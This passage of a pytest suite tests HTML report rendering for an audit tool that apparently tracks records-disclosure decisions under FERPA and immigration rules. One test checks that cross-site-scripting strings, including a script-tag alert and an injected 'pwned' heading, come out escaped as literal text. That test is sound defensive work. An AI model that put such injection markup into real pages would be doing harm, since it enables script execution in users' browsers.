    assert one.returncode == 0 and json.loads(one.stdout)["summary"]["received"] == 0
    bad = cli(built.data_dir, "report", "enforcement", "--from", "yesterday")
    assert bad.returncode == 1 and b"--from must be a date" in bad.stderr
    missing = cli(tmp_path / "nowhere", "report", "activity")
    assert missing.returncode == 1 and b"no audit log" in missing.stderr
    assert not (tmp_path / "nowhere").exists()


# -- headless Chromium ------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["enforcement", "disclosures", "activity"])
def test_html_report_in_headless_chromium(built: Built, tmp_path: Path, kind: str) -> None:
    report = {"enforcement": built.enforcement, "activity": built.activity,
              "disclosures": built.records["S010"]}[kind]  # fmt: skip
    page = tmp_path / f"{kind}.html"
    page.write_bytes(render(report, "html"))
    dom = browse(page.as_uri(), tmp_path, "--dump-dom")
    assert dom.returncode == 0, dom.stderr[-2000:]
    text = dom.stdout.decode()
    p = report.provenance
    assert f'id="checkpoint-root">{p.root_base64}<' in text
    assert f'id="checkpoint-size">{p.size}<' in text
    assert "The audit log verified" in text
    s = report.summary
    if kind == "enforcement":
        for figure in ("received", "refused", "escalated", "complied"):
            assert re.search(rf'id="fig-{figure}"><span class="n">{s[figure]}</span>', text)
        assert text.count("<svg") >= 1 and ">2026-" in text  # the chart, its month labels
    elif kind == "activity":
        for figure, key in (
            ("decisions", "decisions"),
            ("open-escalations", "open_escalations"),
            ("obligations", "obligations_outstanding"),
        ):
            assert re.search(rf'id="fig-{figure}"><span class="n">{s[key]}</span>', text)
        assert text.count("<svg") >= 2
    else:
        for entry in report.table("record").records():
            assert f'id="entry-{entry["entry"]}"' in text
        assert "ICE-HSI" in text and "<svg" not in text
    shot = tmp_path / f"{kind}.png"
    taken = browse(page.as_uri(), tmp_path, f"--screenshot={shot}", "--window-size=1200,1600")
    assert taken.returncode == 0, taken.stderr[-2000:]
    screenshot_is_a_page(shot, (1200, 1600), flat_below=0.97)


def test_hostile_report_in_headless_chromium(
    hostile: tuple[Report, Report], tmp_path: Path
) -> None:
    record, _ = hostile
    page = tmp_path / "hostile.html"
    page.write_bytes(render(record, "html"))
    dom = browse(page.as_uri(), tmp_path, "--dump-dom")
    assert dom.returncode == 0, dom.stderr[-2000:]
    text = dom.stdout.decode()
    # No element came out of the strings: they are text, shown literally.
    assert "<script" not in text and "<img" not in text and '<h1 id="pwned"' not in text
    assert '&lt;script&gt;alert("agency")&lt;/script&gt;' in text


# -- the public surface -----------------------------------------------------------------


def test_all_is_sorted_and_complete() -> None:
    import gatekeeper.reports as mod

    def key(name: str) -> tuple[int, str]:  # ruff's RUF022 order
        return (0 if name.isupper() else 1 if name[0].isupper() else 2, name)

    assert list(mod.__all__) == sorted(mod.__all__, key=key)
    for name in mod.__all__:
        assert hasattr(mod, name), name


def test_plotting_and_templates_load_only_for_html() -> None:
    code = (
        "import sys, gatekeeper.cli, gatekeeper.reports; "
        "print(sorted(m for m in ('matplotlib', 'jinja2') if m in sys.modules))"
    )
    env = dict(os.environ, PYTHONPATH=str(REPO_ROOT))
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, env=env, timeout=60, check=True
    )
    assert done.stdout.decode().strip() == "[]"


def test_every_rule_and_purpose_has_words() -> None:
    """No report line shows a bare rule id or purpose code (the TrackLink line
    read "Basis IMM-14 (IMM-14)")."""
    from gatekeeper.reports._fields import LABELS

    rule_ids = [
        line.strip()
        for line in (POLICIES_DIR / "rule_ids.txt").read_text().splitlines()
        if line.strip() and not line.startswith("#")
    ]
    assert len(rule_ids) > 50
    purposes = (
        "educational parent_access enrollment_transfer court_proceeding criminal_investigation "
        "immigration_enforcement welfare_check emergency child_welfare_investigation news "
        "recruiting admission employment treatment post_release_services sevis_compliance "
        "legal_representation unspecified"
    ).split()  # CONTRACT.md's well-known purpose codes
    missing = [code for code in (*rule_ids, *purposes) if not LABELS.get(code)]
    assert missing == []


def test_rule_tables_name_rules_in_words(built: Built) -> None:
    html = render(built.enforcement, "html").decode()
    assert 'title="IMM-01">IMM-01: immigration-related request without legal compulsion' in html
    activity = render(built.activity, "html").decode()
    assert 'title="FERPA-1">FERPA-1: school official with a legitimate educational interest' in (
        activity
    )
